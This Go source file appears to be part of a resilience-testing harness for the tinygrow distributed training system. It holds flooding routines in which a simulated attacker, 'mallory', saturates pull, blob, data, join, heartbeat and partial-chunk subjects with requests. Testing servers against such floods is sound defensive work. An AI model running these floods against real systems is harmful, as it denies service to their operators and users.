package main

import (
	"context"
	"fmt"
	"time"

	"github.com/tinygrow/tinygrow/proto"
)

// batch is the pause where an attack is not one of rate.
const batch = 20 * time.Millisecond

// flood publishes what next returns as fast as the server takes it.
func flood(ctx context.Context, c *raw, subject string, reply inbox, next func() []byte) error {
	for ctx.Err() == nil {
		for range 64 {
			c.publish(subject, reply, next())
		}
		if err := c.flush(); err != nil {
			return err
		}
	}
	return ctx.Err()
}

func floodPulls(ctx context.Context, v *victim, c *raw) error {
	m, err := v.join(ctx, c, "mallory")
	if err != nil {
		return err
	}
	return flood(ctx, c, v.Run.PullSubject(c.key), c.inbox+".0", m.nextPull)
}

func floodBlobs(ctx context.Context, v *victim, c *raw) error {
	m, err := v.join(ctx, c, "mallory")
	if err != nil {
		return err
	}
	t, err := m.pull(ctx)
	if err != nil {
		return err
	}
	request := encode(&proto.BlobRequest{Head: m.head, Worker: m.id, Key: t.Spec.Graph.Key})
	return flood(ctx, c, v.Run.BlobSubject(c.key), c.inbox+".0", func() []byte { return request })
}

func floodData(ctx context.Context, v *victim, c *raw) error {
	request := encode(&proto.DataRequest{Head: proto.Head{Run: v.Run}, Fetch: true})
	return flood(ctx, c, v.Run.DataSubject(c.key), c.inbox+".0", func() []byte { return request })
}

func floodHellos(ctx context.Context, v *victim, c *raw) error {
	digest, err := v.digest(ctx, c)
	if err != nil {
		return err
	}
	m := &member{head: proto.Head{Run: v.Run}, nonce: proto.NewNonce()}
	n := 0
	return flood(ctx, c, v.Run.JoinSubject(c.key), c.inbox+".0", func() []byte {
		m.id = "mallory"
		if n++; n%2 == 0 {
			m.id = proto.WorkerID(fmt.Sprintf("mallory-%d", n))
		}
		return encode(m.hello(digest))
	})
}

func floodBeats(ctx context.Context, v *victim, c *raw) error {
	m, err := v.join(ctx, c, "mallory")
	if err != nil {
		return err
	}
	beat := encode(&proto.Heartbeat{Head: m.head, Worker: m.id, Nonce: m.nonce, Key: "weights", Have: 1})
	return flood(ctx, c, v.Run.BeatSubject(c.key), "", func() []byte { return beat })
}

func floodChunks(ctx context.Context, v *victim, c *raw) error {
	m, err := v.join(ctx, c, "mallory")
	if err != nil {
		return err
	}
	chunk := encode(&proto.PartialChunk{Head: m.head, Worker: m.id, Block: proto.Block{Lo: 0, Hi: 1},
		Chunk: proto.Chunk{Size: 1 << 20, Data: make([]byte, 64<<10)}})
	return flood(ctx, c, v.Run.PartialSubject(c.key), "", func() []byte { return chunk })
}
